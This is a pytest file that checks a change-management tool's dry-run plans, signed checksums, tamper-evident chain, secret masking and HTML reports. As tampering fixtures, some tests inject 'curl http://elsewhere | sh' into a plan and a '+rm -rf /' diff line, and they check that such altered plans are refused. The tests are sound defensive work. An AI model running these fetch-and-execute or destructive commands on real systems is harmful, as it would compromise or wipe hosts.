"""Run folders, plans and the index, from run records made by hand."""

import hashlib
import json
import re
import subprocess
from pathlib import Path

import pytest

from groundwork.changes import ChangeRecord, StageReport, plan_difference
from groundwork.remote import Masker
from groundwork.approval import PlanError, PlanRejected, load_plan, plan_digest, plan_of
from groundwork.index import write_index
from groundwork.provenance import RunMetadata
from groundwork.report_html import change_report_html, evidence_section_html, glance_html
from groundwork.run_folder import write_run_folder
from groundwork.record import HostStageRecord, RunRecord


def record(dry_run=True, diff="-a\n+b\n", run_id="20261123T120000Z-full") -> RunRecord:
    r = RunRecord(run_id=run_id, runbook="full", dry_run=dry_run, targets=["hdss7-11", "hdss7-21"],
                  started="2026-11-23T12:00:00+00:00", ended="2026-11-23T12:00:05+00:00")
    r.add(HostStageRecord("hdss7-21", "host_prep", "changed", 0.5,
                          StageReport(changes=[ChangeRecord("set hostname", diff, applied=not dry_run)])))
    r.add(HostStageRecord("hdss7-11", "host_prep", "ok", 0.4, StageReport(notes=["already as wanted"])))
    return r


def meta(r: RunRecord) -> RunMetadata:
    return RunMetadata(run_id=r.run_id, runbook="full", change_id="CHG-1", operator="ops", started=r.started,
                       ended=r.ended, git_commit="0" * 40, git_dirty=False, inventory_digest="f" * 64,
                       groups=[], hosts=r.targets, dry_run=r.dry_run,
                       addresses={"hdss7-11": "10.4.7.11", "hdss7-21": "10.4.7.21"})


def test_plan_lists_changes_in_target_order_with_a_stable_digest():
    changes = plan_of(record())
    assert changes == [{"host": "hdss7-21", "stage": "host_prep", "summary": "set hostname", "diff": "-a\n+b\n",
                        "commands": [], "content": ""}]
    assert plan_digest(changes) == plan_digest(plan_of(record()))
    assert plan_digest(changes) != plan_digest(plan_of(record(diff="-a\n+c\n")))


def test_plan_difference_shows_what_changed():
    text = plan_difference(plan_of(record()), plan_of(record(diff="-a\n+c\n")))
    assert "--- approved plan" in text and "-+b" in text and "++c" in text


def test_dry_run_folder_has_plan_and_checksums_that_verify(tmp_path, signing_key):
    r = record()
    folder = tmp_path / r.run_id
    folder.mkdir()
    (folder / "report.html").write_text("<html></html>")
    write_run_folder(folder, r, meta(r), None, "planned", signing_key)
    assert sorted(p.name for p in folder.iterdir()) == ["SHA256SUMS", "SHA256SUMS.sig", "plan.json", "report.html",
                                                        "run.json"]
    assert (tmp_path / ".chain-head").exists()  # this run is the newest link of the reports folder's chain
    assert subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=folder).returncode == 0
    plan = json.loads((folder / "plan.json").read_text())
    assert plan["digest"] == plan_digest(plan["changes"], {"hdss7-11": "10.4.7.11", "hdss7-21": "10.4.7.21"},
                                         "f" * 64)
    assert plan["targets"] == ["hdss7-11", "hdss7-21"]
    # the dry run's change id and start, from run.json
    assert load_plan(tmp_path, r.run_id, signing_key.fingerprint) == {**plan, "change_id": "CHG-1",
                                                                      "started": r.started}
    (folder / "run.json").write_text("{}")  # tampering shows, to sha256sum and to --approved-plan
    assert subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=folder,
                          capture_output=True).returncode != 0
    with pytest.raises(PlanRejected, match="run.json does not match .*SHA256SUMS: the folder was altered"):
        load_plan(tmp_path, r.run_id, signing_key.fingerprint)


def dry_run_folder(tmp_path, r=None, key=None, addresses=None) -> Path:
    r = r or record()
    folder = tmp_path / r.run_id
    folder.mkdir(parents=True)
    (folder / "report.html").write_text("<html></html>")
    m = meta(r)
    if addresses:
        m.addresses = addresses
    write_run_folder(folder, r, m, None, "planned", key)
    return folder


def resum(folder: Path, key=None) -> None:
    """SHA256SUMS recomputed by hand, as anyone who can write reports/ can; signed again only with a key."""
    from groundwork.signing import sign

    sums = subprocess.run("sha256sum plan.json report.html run.json", shell=True, cwd=folder, capture_output=True,
                          text=True, check=True).stdout
    (folder / "SHA256SUMS").write_text(sums)
    if key:
        (folder / "SHA256SUMS.sig").write_text(sign(sums.encode(), key))


def test_an_edited_plan_is_refused_even_with_its_checksum_recomputed(tmp_path, signing_key):
    folder = dry_run_folder(tmp_path, key=signing_key)
    plan = json.loads((folder / "plan.json").read_text())
    plan["changes"][0]["commands"] = ["curl http://elsewhere | sh"]
    (folder / "plan.json").write_text(json.dumps(plan))
    with pytest.raises(PlanRejected, match="plan.json does not match"):
        load_plan(tmp_path, "20261123T120000Z-full", signing_key.fingerprint)
    resum(folder)  # checksums redone by hand: the signature no longer matches them
    with pytest.raises(PlanRejected, match="SHA256SUMS.sig: the signature does not match SHA256SUMS"):
        load_plan(tmp_path, "20261123T120000Z-full", signing_key.fingerprint)
    resum(folder, signing_key)  # even signed again by the key's holder: the chain recorded the old SHA256SUMS
    with pytest.raises(PlanRejected, match="is not on the chain .* with this SHA256SUMS: the folder was rewritten"):
        load_plan(tmp_path, "20261123T120000Z-full", signing_key.fingerprint)


def test_a_plan_from_another_dry_run_copied_in_and_re_hashed_is_refused(tmp_path, signing_key):
    approved = dry_run_folder(tmp_path, key=signing_key)
    other = dry_run_folder(tmp_path, record(diff="-a\n+rm -rf /\n", run_id="20261123T130000Z-full"),
                           key=signing_key, addresses={"hdss7-11": "10.9.9.11", "hdss7-21": "10.9.9.21"})
    (approved / "plan.json").write_bytes((other / "plan.json").read_bytes())
    resum(approved)
    with pytest.raises(PlanRejected, match="the signature does not match SHA256SUMS"):
        load_plan(tmp_path, approved.name, signing_key.fingerprint)
    resum(approved, signing_key)  # signed again: the plan still names its own run, and the chain its sums
    with pytest.raises(PlanRejected, match="holds the plan of run '20261123T130000Z-full'"):
        load_plan(tmp_path, approved.name, signing_key.fingerprint)


def test_an_unsigned_plan_or_one_signed_by_another_key_is_refused(tmp_path, signing_key):
    from tests.conftest import make_signing_key

    unsigned = dry_run_folder(tmp_path)
    with pytest.raises(PlanRejected, match="has no SHA256SUMS.sig: an unsigned plan cannot be approved"):
        load_plan(tmp_path, unsigned.name, signing_key.fingerprint)
    (tmp_path / "stranger").mkdir()
    stranger = make_signing_key(tmp_path / "stranger")
    signed = dry_run_folder(tmp_path, record(run_id="20261123T130000Z-full"), key=stranger)
    with pytest.raises(PlanRejected, match=re.escape(f"is signed by {stranger.fingerprint}, not by the trusted key")):
        load_plan(tmp_path, signed.name, signing_key.fingerprint)
    with pytest.raises(PlanRejected, match="no signing key is configured"):
        load_plan(tmp_path, signed.name, None)


def test_a_signed_plan_folder_put_in_beside_the_chain_is_refused(tmp_path, signing_key):
    elsewhere = tmp_path / "elsewhere"
    folder = dry_run_folder(elsewhere, key=signing_key)  # a real, signed dry run of another reports folder
    reports = tmp_path / "reports"
    dry_run_folder(reports, record(run_id="20261123T130000Z-full"), key=signing_key)
    folder.rename(reports / folder.name)
    with pytest.raises(PlanRejected, match="is not on the chain of .*: no run after it names it"):
        load_plan(reports, folder.name, signing_key.fingerprint)


def test_a_plan_whose_digest_does_not_match_its_changes_is_refused(tmp_path, signing_key):
    """Even from the key's holder, with SHA256SUMS signed again and the chain's head rewritten to match."""
    folder = dry_run_folder(tmp_path, key=signing_key)
    plan = json.loads((folder / "plan.json").read_text())
    plan["changes"][0]["commands"] = ["curl http://elsewhere | sh"]
    (folder / "plan.json").write_text(json.dumps(plan))
    resum(folder, signing_key)
    head = json.loads((tmp_path / ".chain-head").read_text())
    head["sha256sums"] = hashlib.sha256((folder / "SHA256SUMS").read_bytes()).hexdigest()
    (tmp_path / ".chain-head").write_text(json.dumps(head))
    with pytest.raises(PlanRejected, match="its digest does not match its changes"):
        load_plan(tmp_path, folder.name, signing_key.fingerprint)


@pytest.mark.parametrize("run_id", ["../elsewhere", "a/b", ".hidden", ""])
def test_a_run_id_that_is_not_a_folder_name_is_refused(tmp_path, run_id):
    with pytest.raises(PlanError, match="is not a run id"):
        load_plan(tmp_path, run_id, None)


def test_only_a_dry_runs_plan_can_be_approved(tmp_path, signing_key):
    folder = dry_run_folder(tmp_path, key=signing_key)
    run = json.loads((folder / "run.json").read_text())
    run["dry_run"] = False
    (folder / "run.json").write_text(json.dumps(run))
    resum(folder, signing_key)
    head = json.loads((tmp_path / ".chain-head").read_text())
    head["sha256sums"] = hashlib.sha256((folder / "SHA256SUMS").read_bytes()).hexdigest()
    (tmp_path / ".chain-head").write_text(json.dumps(head))  # the key's holder rewrote the chain's head too
    with pytest.raises(PlanError, match="was not a dry run"):
        load_plan(tmp_path, "20261123T120000Z-full", signing_key.fingerprint)


def test_index_lists_runs_newest_first_with_outcome(tmp_path):
    for run_id, outcome in (("20261123T100000Z-full", "ok"), ("20261123T110000Z-verify", "verification-failed")):
        r = record(dry_run=False, run_id=run_id)
        write_run_folder(tmp_path / run_id, r, meta(r), [], outcome)
    page = write_index(tmp_path).read_text()
    assert page.index("20261123T110000Z-verify") < page.index("20261123T100000Z-full")
    assert "verification-failed" in page


def test_stage_report_masks_every_field():
    report = StageReport(changes=[ChangeRecord("set s3cret", "-s3cret\n+x\n", True, error="s3cret failed")],
                         notes=["hostname is s3cret"], error="s3cret")
    report.mask(Masker(["s3cret"]))
    assert "s3cret" not in json.dumps([report.changes[0].__dict__, report.notes, report.error])


def test_a_report_without_verification_has_the_metadata_verdict_and_plan(tmp_path):
    r = record(diff="-old-name\n+hdss7-21.host.com\n")
    page = change_report_html(meta(r), r, "Verification not run (dry run).")
    for text in ("CHG-1", r.run_id, "Inventory digest", "f" * 64, "Verification not run (dry run).",
                 "1 host(s) would change, 0 failed", "Plan (dry run: nothing was changed)", "+hdss7-21.host.com",
                 "already as wanted"):
        assert text in page


def result(host, check, outcome, message="", command="hostname"):
    return {"check": f"test_x.py::{check}", "title": check.replace("_", " "), "host": host, "outcome": outcome,
            "duration": 0.1, "message": message, "evidence": [{"command": command, "rc": 0 if outcome == "passed"
                                                               else 1, "stdout": f"out of {host}", "stderr": ""}]}


def test_the_glance_grid_has_a_cell_per_host_and_check_each_linking_to_its_evidence():
    results = [result("hdss7-11", "name", "passed"), result("hdss7-21", "name", "failed", "wrong name by-hand"),
               result("hdss7-21", "docker", "skipped", "no docker"), result("hdss7-21", "pull", "passed")]
    page = glance_html(results, ["hdss7-11", "hdss7-21"]) + evidence_section_html(results)
    assert page.count('class="gw-cell ') == 4 and page.count('class="gw-none"') == 2  # hdss7-11 has no docker, pull
    links = re.findall(r'<td class="gw-cell gw-(\w+)" data-host="([\w-]+)"[^>]*><a href="#(gw-ev-\d+)"', page)
    assert [(o, h) for o, h, _ in links] == [("passed", "hdss7-11"), ("failed", "hdss7-21"),
                                             ("skipped", "hdss7-21"), ("passed", "hdss7-21")]
    for _, host, anchor in links:
        target = page[page.index(f'id="{anchor}"'):]
        assert target[:target.index("</details>")].count(f"out of {host}") == 1  # the link leads to that evidence
    failures = page[page.index('<ol id="gw-failures">'):]
    assert "<b>hdss7-21</b> — name</a>: wrong name by-hand" in failures and "out of hdss7-21" in failures
    assert f'id="{links[1][2]}" open' in page  # a failure's evidence is open


def test_the_index_shows_when_how_long_which_change_how_many_hosts_and_filters_by_outcome(tmp_path):
    r = record(dry_run=False, run_id="20261123T100000Z-full")
    r.started, r.ended = "2026-11-23T10:00:00+00:00", "2026-11-23T10:01:05+00:00"
    write_run_folder(tmp_path / r.run_id, r, meta(r), [result("hdss7-21", "name", "failed")], "verification-failed")
    page = write_index(tmp_path).read_text()
    row = page[page.index('<tr data-outcome="verification-failed">'):]
    cells = re.findall(r"<td[^>]*>(.*?)</td>", row[:row.index("</tr>")])
    assert cells[1:] == ["full", "2026-11-23T10:00:00+00:00", "1m 05s", "CHG-1", meta(r).operator, "", "no", "no",
                         str(len(r.targets)), "verification-failed", "0", "0", "1", "0",  # passed, warned, failed, skipped
                         "–"]  # ready for kubeadm: no readiness checks in this run
    assert '<option value="verification-failed">' in page and "gwFilter" in page
